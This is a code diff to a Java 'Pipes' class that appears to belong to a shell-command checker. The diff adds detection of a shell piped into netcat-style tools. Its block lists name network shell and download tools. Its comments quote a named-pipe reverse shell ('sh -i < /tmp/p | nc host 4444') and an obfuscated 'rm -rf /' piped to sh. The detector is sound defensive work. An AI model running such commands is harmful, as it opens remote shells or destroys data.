@@ -37,7 +37,10 @@ final class Pipes {
             "strings",
             "downloadstring", "new-object", "net.webclient", "frombase64string", "jq", "yq", "envsubst", "rclone",
             "s3cmd", "tftp", "mc");
-    static final Set<String> KNOWN = Position.union(List.of(INTERPRETERS, STARTERS, WRAPPERS, Position.SHELLS));
+    /// What speaks to another host.
+    private static final Set<String> CALLERS = Set.of("nc", "ncat", "netcat", "telnet", "socat");
+    static final Set<String> KNOWN = Position
+            .union(List.of(INTERPRETERS, STARTERS, WRAPPERS, CALLERS, Position.SHELLS));
     private static final int LONGEST = 64;
     private static final int WRAPPED = 12;
 
@@ -45,6 +48,9 @@ final class Pipes {
 
     static Optional<Offence> judge(Words words, int index, Position position, boolean strict) {
         var word = words.get(index);
+        if (word.before() == Gap.PIPE && CALLERS.contains(word.program()) && isShellBefore(words, index)) {
+            return Optional.of(between(words.get(index - 1), word));
+        }
         if (word.before() == Gap.PIPE && index > 0 && (isRunner(word) || WRAPPERS.contains(word.program()))) {
             return piped(words, index, strict);
         }
@@ -52,6 +58,15 @@ final class Pipes {
             return substituted(words, index);
         }
         return position.isProgram() ? substitution(word, word) : Optional.empty();
+    }
+
+    /// A shell that answers to the network: `sh -i < /tmp/p | nc host 4444 > /tmp/p`.
+    private static boolean isShellBefore(Words words, int pipe) {
+        var first = pipe - 1;
+        while (first > 0 && first > pipe - WRAPPED && !words.get(first).begins()) {
+            first--;
+        }
+        return first >= 0 && Position.SHELLS.contains(words.get(first).program()) && readsItsInput(words, first);
     }
 
     /// What a shell behind a pipe is given to run, when that can be told: `printf %s%s 'r' 'm -rf /' | sh`.
